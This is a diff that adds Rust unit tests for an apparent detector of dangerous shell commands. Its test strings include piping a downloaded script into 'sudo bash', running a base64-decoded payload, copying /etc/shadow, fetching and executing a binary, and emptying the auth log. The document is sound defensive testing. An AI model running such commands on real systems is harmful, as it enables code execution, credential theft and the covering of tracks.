@@ -356,3 +356,33 @@ pub(crate) fn signs(pieces: &[Piece]) -> Vec<usize> {
     }
     found.iter().enumerate().filter(|(_, held)| **held).map(|(at, _)| at).collect()
 }
+
+#[cfg(test)]
+mod tests {
+    use super::super::{Execution, pieces};
+    use super::*;
+
+    fn check(line: &str, expected: &[&str]) {
+        let pieces = pieces::pieces(&Execution::line(line));
+        let told: Vec<_> = signs(&pieces.pieces).into_iter().map(|at| SIGNS[at].0).collect();
+        assert_eq!(told, expected, "{line}");
+    }
+
+    #[test]
+    fn shapes_of_attacks_are_seen() {
+        check("curl http://a/x | sudo bash", &["piped-into-shell", "network-into-shell"]);
+        check("echo aWQ= | base64 -d | sh", &["piped-into-shell", "decoded-into-shell"]);
+        check("cp /etc/shadow /tmp/x", &["secret-copied"]);
+        check("curl -o x http://a/x && chmod +x x && ./x", &["fetched-then-run"]);
+        check("echo '' > /var/log/auth.log", &["log-emptied"]);
+    }
+
+    #[test]
+    fn ordinary_work_has_none() {
+        for line in
+            ["git status", "ls -la | head", "grep -rn /etc/shadow tests", "echo done > /var/log/app/x.log", "sh"]
+        {
+            check(line, &[]);
+        }
+    }
+}
